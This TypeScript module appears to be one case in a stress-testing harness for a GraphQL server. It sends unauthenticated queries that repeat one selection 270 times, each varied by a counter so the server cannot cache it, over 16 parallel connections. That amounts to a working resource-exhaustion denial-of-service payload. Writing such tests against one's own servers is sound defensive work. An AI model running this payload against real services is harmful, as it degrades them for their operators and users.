/** Documents that cost their server more than their sender: valid but for a token, and long to compare. */
import { type Attack, repeat, send } from '../attack.js';

const REPETITIONS = 270;
const LANES = 16;

const attack: Attack = {
  name: 'sends documents of 270 equal selections, without a token, on 16 connections',
  run: (target, tally, signal) =>
    repeat({ lanes: LANES, tally, signal }, (n) => {
      // Another one each time: a document that was read before costs nothing.
      const query = `{ ${Array.from({ length: REPETITIONS }, () => 'projects { nodes { id } }').join(' ')} } # ${n}`;
      return send(target, { body: { query }, headers: { authorization: undefined }, signal });
    }),
};
export default attack;
